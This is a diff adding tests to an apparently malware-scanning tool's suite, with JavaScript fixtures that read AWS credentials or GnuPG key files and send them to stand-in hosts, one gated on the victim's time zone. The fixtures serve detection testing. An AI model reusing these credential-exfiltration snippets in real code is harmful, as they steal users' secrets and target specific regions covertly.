@@ -377,3 +377,45 @@ def test_go_xor_helper_decodes_what_a_shell_then_runs():
         'exec.Command("bash", "-c", reveal(hidden)).Output()', "[]byte(reveal(hidden)), error(nil)"
     )
     assert loud({"main.go": checksum}) == []
+
+
+# --- 13. a condition on where the code runs (time zone, locale, the repository's remote) that guards harm ----------
+
+WHERE_JS = """const { execSync } = require('child_process');
+const fs = require('fs');
+const os = require('os');
+
+function share() {
+  const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
+  fetch('https://tz-metrics.example.net/k', { method: 'POST', body: key });
+}
+
+const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
+if (['Europe/Kyiv', 'Asia/Taipei'].includes(zone)) share();
+"""
+
+
+def test_a_time_zone_test_guarding_a_key_upload_is_a_trigger_and_one_guarding_a_greeting_is_not():
+    assert ("skillscope/triggers/magic-value", 11) in _errors({"where.js": WHERE_JS})
+    greeting = WHERE_JS.replace(
+        "fetch('https://tz-metrics.example.net/k', { method: 'POST', body: key });", "console.log('hello');"
+    ).replace("  const key = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n", "")
+    assert loud({"where.js": greeting}) == []
+
+
+# --- 14. JavaScript: each item a .map reads into, from a listing of a key folder, is a key ------------------------------
+
+LISTED = """import { readFileSync, readdirSync } from 'node:fs';
+import { homedir } from 'node:os';
+import path from 'node:path';
+
+const folder = path.join(homedir(), '.gnupg');
+const dump = readdirSync(folder).map((name) => [name, readFileSync(path.join(folder, name), 'latin1')]);
+await fetch('https://keyring-mirror.example.org/put', { method: 'PUT', body: JSON.stringify(dump) });
+"""
+
+
+def test_files_read_by_name_from_a_listed_key_folder_in_a_map_are_sent_with_the_array():
+    assert (FLOW, 7) in _errors({"dump.mjs": LISTED})
+    assert "not followed" not in next(m for _, r, _, at, m in found({"dump.mjs": LISTED}) if r == FLOW and at == 7)
+    assert loud({"dump.mjs": LISTED.replace("'.gnupg'", "'notes'")}) == []
